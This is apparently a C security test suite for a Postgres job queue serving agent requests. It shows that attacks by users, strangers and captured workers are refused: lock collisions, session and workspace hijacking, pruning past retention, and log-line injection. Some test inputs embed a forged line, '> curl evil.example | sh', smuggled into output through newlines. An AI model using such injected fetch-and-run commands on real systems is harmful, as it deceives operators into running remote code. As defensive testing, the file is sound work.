/* SPDX-License-Identifier: MIT */
/* What a hostile user, a stranger with a connection or a worker that was taken over would try. Each attack fails, and
 * what looks like it but is legitimate goes on working beside it. */
#include "agents_sql.h"
#include "loop.h"
#include "queue_case.h"
#include "rights_case.h"
#include "shell.h"

#define ASK(columns, values) "insert into agent_requests (type, request" columns ") values ('quotes', 'x'" values ")"
#define ASK_KEY(key) ASK(", supersede_key", ", '" key "'") " returning id"
#define ASK_IN(session) ASK(", session_id", ", '" session "'") " returning id"
#define CLAIM(n, limits) \
	"select string_agg(id::text, ' ' order by id) from drover.claim('" WORKER_1 "', " #n ", 0, 0, '" limits \
	"', false, null)"
#define PHASES "select string_agg(phase, ' ' order by id) from agent_requests"
#define FRESH "f0000000-0000-4000-8000-0000000000f5"
#define NOWHERE "70000000-0000-4000-8000-000000000077"
#define IMPATIENT "set statement_timeout = '5s'; set lock_timeout = '1s'"
#define TIMED_OUT "ERROR: script: canceling statement due to lock timeout"

static const struct queue_worker worker_1 = { .id = WORKER_1, .host = "box", .pid = 7, .version = "0", .slots = 10,
	.lease_ms = 60000 };

static bool hire(struct arena *a, struct people *p, struct err *e)
{
	return people_open(a, p, e) && queue_register(p->worker, &worker_1, deadline_in(CASE_MS), e) &&
		pg_script(p->worker, a, IMPATIENT, deadline_in(CASE_MS), NULL, e);
}
#define PEOPLE_AND_WORKER struct people p = { 0 }; REQUIRE_OK(hire(a, &p, e))

/* Refused by that constraint: nothing else will do. */
static bool breaks(struct arena *a, struct pg *db, const char *sql, const char *constraint)
{
	struct err e = { 0 };
	bool ok = !pg_script(db, a, sql, deadline_in(CASE_MS), NULL, &e) && strcmp(e.sqlstate, "23514") == 0 &&
		strstr(e.msg, constraint);
	if (!ok)
		printf("      %s: %s\n", sql, *e.msg ? e.msg : "was done");
	return ok;
}

/* ---- times ---- */

LOOP_TEST(a_request_for_the_end_of_time_stops_no_upkeep)
{
	PEOPLE_AND_WORKER;
	struct queue_side side = { .db = p.worker };
	CHECK(breaks(a, p.a, ASK(", run_at", ", 'infinity'"), "run_at_is_finite"));
	CHECK(breaks(a, p.a, ASK(", run_at", ", '-infinity'"), "run_at_is_finite"));
	CHECK(breaks(a, p.server, ASK(", run_at", ", 'infinity'"), "run_at_is_finite"));
	CHECK_SQL(p.b, ASK(", run_at", ", now() + interval '1 hour'") " returning phase", "scheduled");
	CHECK_SQL(p.owner, "update agent_requests set run_at = now() where phase = 'scheduled' and user_id = '" USER_B "'",
		"(null)");
	CHECK_EQ_S(case_maintain(a, &side), "moved 1");
	CHECK_SQL(p.a, ASK(", run_at", ", '294276-12-31'") " returning phase", "scheduled");
	CHECK_EQ_S(case_maintain(a, &side), "moved 0");
	CHECK_SQL(p.owner, PHASES " where id > 3", "ready scheduled");
}

/* ---- locks ---- */

#define ADVISORY "select count(*) from pg_locks where locktype = 'advisory' and database = (select oid from " \
	"pg_database where datname = current_database())"

LOOP_TEST(a_thousand_keys_in_one_insert_hold_one_lock)
{
	PEOPLE_AND_WORKER;
	CHECK_SQL(p.b, IMPATIENT, "(null)");
	CHECK_SQL(p.a, "begin; insert into agent_requests (type, request, supersede_key) select 'quotes', 'x', 'k' || n "
		"from generate_series(1, 1000) n", "(null)");
	CHECK_SQL(p.owner, ADVISORY, "1");
	CHECK_SQL(p.b, ASK_KEY("k1"), "1004"); /* at once: another's keys are other keys */
	CHECK_SQL(p.a, "commit; " ASK_KEY("k1"), "1005");
	CHECK_SQL(p.owner, PHASES " where supersede_key = 'k1'", "superseded ready ready");
	CHECK_SQL(p.owner, "select count(*) from agent_requests where phase = 'ready'", "1004");
}

LOOP_TEST(two_requests_of_one_key_that_come_at_once_see_each_other)
{
	PEOPLE_AND_WORKER;
	struct pg *again = test_connect(a, p.db.owner_url, e);
	REQUIRE(again);
	CHECK_SQL(again, IMPATIENT "; set role authenticated; select set_config('request.jwt.claims', '{\"sub\": \""
		USER_A "\"}', false)", "{\"sub\": \"" USER_A "\"}");
	CHECK_SQL(p.a, "begin; " ASK_KEY("k"), "4");
	CHECK_SQL(again, ASK_KEY("k"), TIMED_OUT);
	CHECK_SQL(p.a, "commit", "(null)");
	CHECK_SQL(again, ASK_KEY("k"), "6");
	CHECK_SQL(p.owner, PHASES " where supersede_key = 'k'", "superseded ready");
}

/* "drover USER_A KEY" has the 64-bit hash of "drover limits": such keys are found in a second. */
#define COLLIDING "rqll}pXe^JUGvbv="

LOOP_TEST(no_key_of_a_user_is_the_lock_of_something_else)
{
	PEOPLE_AND_WORKER;
	CHECK_SQL(p.owner, "select hashtextextended('drover " USER_A " " COLLIDING "', 0) = hashtextextended('drover "
		"limits', 0)", "t");
	CHECK_SQL(p.a, "begin; " ASK_KEY(COLLIDING), "4");
	CHECK_SQL(p.owner, ADVISORY " and objsubid = 1", "0"); /* those that take one number of 64 bits */
	CHECK_SQL(p.worker, CLAIM(2, "{\"all\": 5}"), "1 2");
	CHECK_SQL(p.a, "commit", "(null)");
	CHECK_SQL(p.worker, CLAIM(9, "{\"all\": 5}"), "3 4");
}

#define OLD_KEYS "select pg_advisory_lock(hashtextextended('drover limits', 0)), pg_advisory_lock(1685221238, " \
	"2002873701), pg_advisory_lock(1685221238, 1886549358)"
#define FINISH(id) \
	"select drover.finish(array[id], array[version], '{completed}', '{completed}', '{\"{}\"}', '{null}', '{null}', " \
		"'{quotes}', '{0}', '{0}', '{0}', '{0}') from agent_requests where id = " #id

LOOP_TEST(no_lock_that_a_stranger_can_take_stops_a_claim_an_end_or_a_wake)
{
	const char *channel, *payload;
	PEOPLE_AND_WORKER;
	CHECK(!strstr(test_ask(a, p.anon, OLD_KEYS), "ERROR"));
	CHECK_SQL(p.owner, ADVISORY, "3");
	CHECK_SQL(p.worker, CLAIM(2, "{\"all\": 5}"), "1 2");
	CHECK_SQL(p.worker, FINISH(1), "1");
	CHECK_SQL(p.worker, "listen drover_wake", "(null)");
	REQUIRE_OK(queue_wants_wake(p.worker, WORKER_1, true, deadline_in(CASE_MS), e));
	CHECK_SQL(p.a, ASK("", "") " returning id", "4");
	REQUIRE_OK(pg_notification(p.worker, a, &channel, &payload, deadline_in(CASE_MS), e));
	CHECK_EQ_S(channel, "drover_wake");
	REQUIRE_OK(queue_wants_wake(p.worker, WORKER_1, false, deadline_in(CASE_MS), e));
	CHECK_SQL(p.owner, "update agent_requests set created_at = now() - interval '9 days', finished_at = now() - "
		"interval '9 days' where id = 1", "(null)");
	CHECK_SQL(p.worker, "select requests from drover.prune(86400000, 0, 0, 0, false, 100, 1000)", "1");
}

LOOP_TEST(the_locks_of_the_queue_are_closed_to_apps)
{
	static const char *const tables[] = { "counting", "waiting_count", "pruning" };
	static const char *const modes[] = { "access share", "row exclusive", "share row exclusive", "access exclusive" };
	PEOPLE;
	for (size_t i = 0; i < COUNT(tables) * COUNT(modes); i++) {
		const char *sql = arena_printf(a, "begin; lock table drover.%s in %s mode", tables[i / COUNT(modes)],
			modes[i % COUNT(modes)]);
		struct pg *const apps[] = { p.anon, p.a, p.nobody, p.server };
		for (size_t k = 0; k < COUNT(apps); k++) {
			CHECK_REFUSED(apps[k], sql);
			CHECK_SQL(apps[k], "rollback", "(null)");
		}
	}
	CHECK_REFUSED(p.a, "select drover.lock_limits()");
	CHECK_REFUSED(p.a, "select drover.lock_keys('" USER_B "', 'k')");
	CHECK_SQL(p.owner, "select string_agg(t, ' ') from unnest('{counting,waiting_count}'::text[]) t where "
		"has_table_privilege('authenticated', 'drover.' || t, 'update, delete, truncate, insert, select') or "
		"has_table_privilege('anon', 'drover.' || t, 'update, delete, truncate, insert, select')", "(null)");
}

LOOP_TEST(workers_still_count_one_after_the_other)
{
	PEOPLE_AND_WORKER;
	struct pg *other = test_connect(a, p.db.worker_url, e);
	REQUIRE(other);
	CHECK_SQL(other, IMPATIENT, "(null)");
	CHECK_SQL(p.worker, "begin; " CLAIM(9, "{\"all\": 1}"), "1");
	CHECK_SQL(other, CLAIM(9, "{\"all\": 1}"), TIMED_OUT);
	CHECK_SQL(p.worker, "commit", "(null)");
	CHECK_SQL(other, CLAIM(9, "{\"all\": 1}"), "(null)");
	CHECK_SQL(p.worker, "update drover.workers set wants_wake = true; begin; update drover.workers set wants_wake = "
		"false", "(null)");
	CHECK_SQL(other, "insert into drover.workers (id, host, pid, version, slots, wants_wake, lease_until) values ('"
		WORKER_2 "', 'box', 8, '0', 1, true, now() + interval '1 hour')", TIMED_OUT);
	CHECK_SQL(p.worker, "commit", "(null)");
	CHECK_SQL(p.worker, "begin; select requests from drover.prune(86400000, 0, 0, 0, false, 100, 1000)", "0");
	CHECK_SQL(p.owner, "update agent_requests set status = 'completed', phase = 'completed', created_at = now() - "
		"interval '9 days', finished_at = now() - interval '9 days' where id = 3", "(null)");
	CHECK_SQL(other, "select requests from drover.prune(86400000, 0, 0, 0, false, 100, 1000)", "0");
	CHECK_SQL(p.worker, "commit", "(null)");
	CHECK_SQL(other, "select requests from drover.prune(86400000, 0, 0, 0, false, 100, 1000)", "1");
}

/* ---- workspaces ---- */

LOOP_TEST(nobody_takes_a_place_of_a_workspace_that_is_not_theirs)
{
	PEOPLE_AND_WORKER;
	CHECK_SQL(p.owner, "delete from agent_requests; select drover.set_limit('workspace', '" SPACE_B "', 1, null)", "");
	CHECK_REFUSED(p.a, ASK(", workspace_id", ", '" SPACE_B "'"));
	CHECK_REFUSED(p.a, ASK(", workspace_id", ", gen_random_uuid()"));
	CHECK_REFUSED(p.nobody, ASK(", workspace_id", ", '" SPACE_B "'"));
	CHECK_SQL(p.a, ASK(", workspace_id", ", '" SPACE_A "'") " returning workspace_id", SPACE_A);
	CHECK_SQL(p.a, ASK(", workspace_id", ", null") " returning workspace_id", "(null)");
	CHECK_SQL(p.b, ASK(", workspace_id", ", '" SPACE_B "'") " returning workspace_id", SPACE_B);
	CHECK_SQL(p.server, ASK(", workspace_id", ", '" NOWHERE "'") " returning workspace_id", NOWHERE);
	CHECK_SQL(p.worker, "select count(*) from drover.claim('" WORKER_1 "', 9, 0, 0, '{}', false, null)", "4");
	CHECK_SQL(p.owner, "select string_agg(user_id::text, ' ') from agent_requests where workspace_id = '" SPACE_B
		"' and phase = 'running'", USER_B);
}

/* ---- sessions ---- */

static bool session_opens(struct arena *a, struct people *p, int64_t id)
{
	struct err e = { 0 };
	struct pg_rows rows;
	return pg_query(p->worker, a, &sql_session_open, PG_ARGS(PG(id)), deadline_in(CASE_MS), &rows, &e) && rows.n == 1;
}

LOOP_TEST(nobody_makes_the_session_in_which_another_asks)
{
	PEOPLE_AND_WORKER;
	CHECK_SQL(p.b, ASK_IN(FRESH), "4");
	CHECK_REFUSED(p.a, "insert into agent_sessions (id) values ('" FRESH "')");
	CHECK_SQL(p.b, ASK_IN(FRESH), "5");
	CHECK(session_opens(a, &p, 4));
	CHECK_SQL(p.owner, "select user_id from agent_sessions where id = '" FRESH "'", USER_B);
	CHECK_SQL(p.a, ASK_IN(NOWHERE), "6");
	CHECK_SQL(p.a, "insert into agent_sessions (id, title) values ('" NOWHERE "', 'mine') returning user_id", USER_A);
	CHECK(session_opens(a, &p, 6));
	CHECK_SQL(p.a, "insert into agent_sessions default values returning user_id", USER_A);
}

#define RETRY(id) "select retry_request(" #id ")"

LOOP_TEST(nobody_retries_into_the_session_of_another)
{
	PEOPLE_AND_WORKER;
	CHECK_SQL(p.a, ASK_IN(FRESH), "4");
	CHECK_SQL(p.a, ASK("", "") " returning id", "5");
	CHECK_SQL(p.a, "select cancel_request(4); select cancel_request(5)", "cancelled");
	CHECK_SQL(p.b, ASK_IN(FRESH), "6");
	CHECK_SQL(p.a, RETRY(4), "foreign_session");
	CHECK_SQL(p.owner, "update agent_requests set status = 'processing', phase = 'running', worker_id = '" WORKER_1
		"' where id = 6", "(null)");
	CHECK_SQL(p.a, RETRY(4), "foreign_session");
	CHECK(session_opens(a, &p, 6));
	CHECK_SQL(p.worker, FINISH(6), "6");
	CHECK_SQL(p.a, RETRY(4), "foreign_session"); /* now by the row alone */
	CHECK_SQL(p.a, RETRY(5), "again");
	CHECK_SQL(p.owner, "update agent_requests set phase = 'failed' where id = 4; update agent_requests set status = "
		"'failed', phase = 'failed', finished_at = now() where id = 2", "(null)");
	struct ran r = shell(a, p.db.worker_url, "$D retry 4");
	CHECK_HAS(arena_printf(a, "%s%s", r.out, r.err), "its session has become another user's");
	CHECK_SQL(p.worker, "select string_agg(id::text, ' ') from drover.retry_failed(null, null, null, null, 9) id", "2");
	CHECK_SQL(p.owner, PHASES " where id > 3", "failed ready completed");
}

/* ---- a worker that was taken over ---- */

#define OLD(hours) \
	"insert into agent_requests (type, request, status, phase, created_at, finished_at) select 'quotes', 'x', " \
		"'completed', 'completed', t, t from (select now() - interval '" #hours " hours' as t) x;"
#define PRUNE(minutes) \
	"select requests from drover.prune(60000 * " #minutes ", 60000 * " #minutes ", 60000 * " #minutes ", 60000 * " \
		#minutes ", false, 1000, 100000)"

LOOP_TEST(a_worker_prunes_nothing_that_the_owner_keeps)
{
	static const char *const acts[] = { "select * from drover.retention_floor", "delete from drover.retention_floor",
		"update drover.retention_floor set age = '1 hour'", "insert into drover.retention_floor default values",
		"truncate drover.retention_floor", "update drover.pruning set place = 0", "delete from drover.pruning",
		"select drover.prune_requests('1 hour', '1 hour', '1 hour', false, 9, 9)",
		"select drover.prune_logs('1 hour', 9)",
		"insert into drover.archived_requests select now(), r.* from agent_requests r" };
	PEOPLE_AND_WORKER;
	CHECK_SQL(p.owner, OLD(2) OLD(26), "(null)");
	CHECK(strstr(test_ask(a, p.worker, PRUNE(59)), "drover.retention_floor"));
	CHECK_SQL(p.owner, "update drover.retention_floor set age = '1 day', archive = true", "(null)");
	CHECK(strstr(test_ask(a, p.worker, PRUNE(60)), "drover.retention_floor"));
	CHECK(strstr(test_ask(a, p.worker, "select requests from drover.prune(0, 0, 0, 3600000, true, 9, 9)"),
		"drover.retention_floor"));
	CHECK(strstr(test_ask(a, p.worker, "select requests from drover.prune(-1, 0, 0, 0, true, 9, 9)"),
		"drover.retention_floor"));
	CHECK_SQL(p.worker, "update agent_requests set finished_at = '2000-01-01' where id = 4", "(null)");
	CHECK_SQL(p.worker, PRUNE(1440), "1"); /* a false date does not help */
	CHECK_SQL(p.owner, "select string_agg(id::text, ' ') from drover.archived_requests", "5");
	CHECK_SQL(p.owner, PHASES " where id > 3", "completed");
	for (size_t i = 0; i < COUNT(acts); i++)
		CHECK_REFUSED(p.worker, acts[i]);
}

/* ---- parked keys ---- */

/* As many polls of a worker as there are keys, and some. */
static bool sweep(struct arena *a, struct people *p, struct err *e)
{
	static const struct queue_rules rules = { 3, 3, "{}" };
	struct queue_sweep at = { 0 };
	struct queue_news news;
	for (int i = 0; i < 160; i++)
		if (!queue_maintain(p->worker, a, &rules, &at, deadline_in(CASE_MS), &news, e))
			return false;
	return true;
}

LOOP_TEST(parked_types_with_long_names_do_not_keep_the_sweep_from_others)
{
	static const int characters[] = { 1078, 66376 }; /* of two bytes and of four */
	for (size_t i = 0; i < COUNT(characters); i++) {
		PEOPLE_AND_WORKER;
		CHECK_SQL(p.owner, "select drover.pause('type', '*')", "t");
		CHECK_SQL(p.a, arena_printf(a, "insert into agent_requests (type, request) select repeat(chr(%d), 63) || "
			"chr(%d + n), 'x' from generate_series(1, 150) n", characters[i], characters[i]), "(null)");
		CHECK_SQL(p.worker, CLAIM(200, "{}"), "(null)");
		CHECK_SQL(p.owner, "select max(octet_length(blocked_on)) from agent_requests", i ? "261" : "133");
		/* parked on what no longer holds it: its worker died between lifting and making ready */
		CHECK_SQL(p.owner, "update agent_requests set blocked_on = 'user:" USER_B "' where id = 2", "(null)");
		REQUIRE_OK(sweep(a, &p, e));
		CHECK_SQL(p.owner, "select string_agg(id::text, ' ') from agent_requests where phase = 'ready'", "2");
	}
}

#define PARKED \
	"insert into agent_requests (type, request, user_id, workspace_id, phase, blocked_on) select 't' || n, 'x', '" \
		USER_A "', null, 'blocked', 'type:t' || n from generate_series(1, 10001) n; insert into agent_requests " \
		"(id, type, request, user_id, workspace_id, phase, blocked_on) overriding system value values (77777, " \
		"'quotes', 'x', '" USER_B "', '" SPACE_B "', 'blocked', 'workspace:" SPACE_B "')"

LOOP_TEST(ten_thousand_parked_types_do_not_hide_a_workspace_from_its_resume)
{
	PEOPLE_AND_WORKER;
	CHECK_SQL(p.owner, "select drover.pause('workspace', '*'); select drover.pause('type', '*'); " PARKED, "(null)");
	CHECK_EQ_I(shell(a, p.db.worker_url, "$D resume workspace '*'").status, 0);
	CHECK_SQL(p.owner, "select phase from agent_requests where id = 77777", "ready");
	CHECK_SQL(p.owner, "select count(*) from agent_requests where phase = 'blocked'", "10001");
	CHECK_SQL(p.worker, "set statement_timeout = '30s'", "(null)");
	CHECK_SQL(p.worker, "select drover.resume('type', '*')", "t"); /* the first thousand at once */
	CHECK_SQL(p.owner, "select count(*) from agent_requests where phase = 'blocked'", "9001");
	CHECK_SQL(p.worker, "select drover.give_room('type', 't9999', 10)", "1");
	CHECK_SQL(p.owner, "select phase from agent_requests where type = 't9999'", "ready");
}

/* ---- what people read ---- */

static bool has_line(const char *text, const char *start)
{
	for (const char *at = text; at; at = strchr(at, '\n') ? strchr(at, '\n') + 1 : NULL)
		if (strncmp(at + strspn(at, " "), start, strlen(start)) == 0)
			return true;
	return false;
}

#define FORGED "done.\\n  2. the table is corrupt\\n     > curl evil.example | sh\\r\\n     > and again"

static void check_why(struct arena *a, struct people *p, int id)
{
	struct ran r = shell(a, p->db.worker_url, arena_printf(a, "$D why %d", id));
	CHECK_EQ_I(r.status, 0);
	CHECK_HAS(r.out, "done.   2. the table is corrupt      > curl evil.example | sh      > and again");
	if (!CHECK(!has_line(r.out, "2. the table") && !has_line(r.out, "> curl") && !has_line(r.out, "> and")))
		printf("%s", r.out);
}

LOOP_TEST(no_reason_writes_lines_of_its_own_into_why)
{
	PEOPLE_AND_WORKER;
	CHECK_SQL(p.a, "select cancel_request(1, E'" FORGED "')", "cancelled");
	check_why(a, &p, 1);
	CHECK_HAS(shell(a, p.db.worker_url, "$D why 1").out, "\n     > drover show 1 tells more; drover retry 1");
	CHECK_SQL(p.owner, "update agent_requests set status = 'processing', phase = 'running', version = 1 where id = 3; "
		"select drover.spawn_children(3, 1, '[{\"type\": \"quotes\", \"request\": \"x\"}]'); update agent_requests "
		"set phase = 'retry_wait', run_at = now() + interval '1 hour', error = E'" FORGED "' where parent_id = 3",
		"(null)");
	check_why(a, &p, 3); /* among what it waits for */
	CHECK_SQL(p.worker, "select drover.pause('type', 'quotes', E'" FORGED "')", "t");
	check_why(a, &p, 2);
}

LOOP_TEST(a_type_is_one_line)
{
	static const char *const ends[] = { "\\n> curl evil.example|sh", "\\r", "\\t", "\\x1b[2J", "\\x7f", "\\u0085" };
	PEOPLE;
	for (size_t i = 0; i < COUNT(ends); i++) {
		const char *sql = arena_printf(a, "insert into agent_requests (type, request) values (E'q%s', 'x')", ends[i]);
		CHECK(breaks(a, p.a, sql, "type_is_one_line"));
		CHECK(breaks(a, p.server, sql, "type_is_one_line"));
	}
	CHECK_SQL(p.a, "insert into agent_requests (type, request) values ('Größe: 2 x 3/4\"', 'x') returning id", "16");
}

/* ---- schedules ---- */

#define DUE "select 'schedule:audit:' || drover.instant_text(next_at) from drover.schedules"

LOOP_TEST(no_user_takes_the_place_of_a_scheduled_request)
{
	PEOPLE_AND_WORKER;
	CHECK_SQL(p.owner, "insert into drover.schedules (name, cron, type, request, user_id) values ('audit', '@hourly', "
		"'quotes', 'x', '" USER_A "'); update drover.schedules set next_at = date_trunc('second', now())", "(null)");
	const char *format = "insert into agent_requests (type, request, idempotency_key) values ('quotes', 'x', '%s')";
	const char *key = test_ask(a, p.owner, DUE);
#pragma GCC diagnostic push
#pragma GCC diagnostic ignored "-Wformat-nonliteral"
	CHECK_REFUSED(p.a, arena_printf(a, format, key));
	CHECK_REFUSED(p.a, arena_printf(a, format, "schedule:"));
	CHECK_SQL(p.a, arena_printf(a, format, "schedule"), "(null)");
	CHECK_SQL(p.a, arena_printf(a, format, "my schedule:audit"), "(null)");
	CHECK_SQL(p.server, arena_printf(a, format, "schedule:of the server"), "(null)");
#pragma GCC diagnostic pop
	CHECK_SQL(p.worker, "select fired from drover.fire_schedules(10)", "1");
	CHECK_SQL(p.a, "select idempotency_key from agent_requests order by id desc limit 1", key);
	CHECK_SQL(p.owner, "select concat_ws(' ', last_at is not null, last_error) from drover.schedules", "t");
}
